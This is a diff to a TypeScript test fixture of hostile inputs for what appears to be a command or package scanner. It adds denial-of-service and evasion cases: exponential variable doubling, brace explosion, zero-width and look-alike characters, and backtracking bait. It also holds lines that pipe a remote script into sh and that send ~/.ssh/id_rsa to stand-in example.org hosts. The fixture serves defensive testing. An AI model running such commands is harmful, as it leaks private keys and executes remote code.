@@ -75,4 +75,73 @@ export const hostileDocuments: readonly { title: string; content: Buffer; outcom
     content: bytesOf(packageWith(Array.from({ length: 2_900 }, () => shell('curl https://a.example.org/x | sh')))),
     outcome: 'judged',
   },
+  { title: '4,900 commands, as many as are read', content: command('a|'.repeat(4_900)), outcome: 'judged' },
+  {
+    title: 'a variable that doubles itself',
+    content: command('x=aaaa;\n'.concat('x=$x$x;\n'.repeat(2_000), 'echo $x')),
+    outcome: 'judged',
+  },
+  { title: 'braces that multiply', content: command(`echo ${'{a,b}'.repeat(15_000)}`), outcome: 'judged' },
+  {
+    title: '900 kB of zero-width characters',
+    content: command(`cu${'\u200b'.repeat(300_000)}rl x`),
+    outcome: 'judged',
+  },
+  { title: '300,000 look-alike letters', content: command('\u0430'.repeat(300_000)), outcome: 'judged' },
+  {
+    title: 'bait for backtracking: keys',
+    content: command('-----BEGIN PRIVATE KEY-----'.repeat(3_500)),
+    outcome: 'judged',
+  },
+  {
+    title: 'bait for backtracking: far right',
+    content: command(`python3 -c "${'x'.concat(' '.repeat(119)).repeat(800)}"`),
+    outcome: 'judged',
+  },
+  {
+    title: 'Python of brackets only',
+    content: bytesOf(packageWith([shell('['.repeat(90_000), { interpreter: 'python3' })])),
+    outcome: 'judged',
+  },
+  {
+    title: 'JavaScript of templates in templates',
+    content: bytesOf(packageWith([shell('`${'.repeat(30_000), { interpreter: 'node' })])),
+    outcome: 'judged',
+  },
+  {
+    title: 'a manifest of 60,000 documents',
+    content: bytesOf(packageWith([{ name: 'a', type: 'k8s', config: { manifest: 'kind: A\n---\n'.repeat(60_000) } }])),
+    outcome: 'judged',
+  },
+  {
+    title: 'a here-document of 30,000 documents for the cluster',
+    content: command(`kubectl apply -f - <<EOF\n${'kind: A\n---\n'.repeat(1_500)}EOF\n`.repeat(2)),
+    outcome: 'judged',
+  },
+  {
+    title: '9,000 variables of an environment',
+    content: bytesOf(
+      packageWith([
+        shell('make', {
+          env: Object.fromEntries(
+            Array.from({ length: 9_000 }, (_one, index) => [`TOKEN_${index}`, `$\{TOKEN_${index}}`]),
+          ),
+        }),
+      ]),
+    ),
+    outcome: 'judged',
+  },
+  {
+    title: 'a chain of files from handler to handler',
+    content: bytesOf(
+      packageWith(
+        Array.from({ length: 900 }, (_one, index) =>
+          shell(
+            `cat ~/.ssh/id_rsa > f${index}; cp f${index} f${index + 1}; curl -T f${index} https://a${index}.example.org`,
+          ),
+        ),
+      ),
+    ),
+    outcome: 'judged',
+  },
 ]
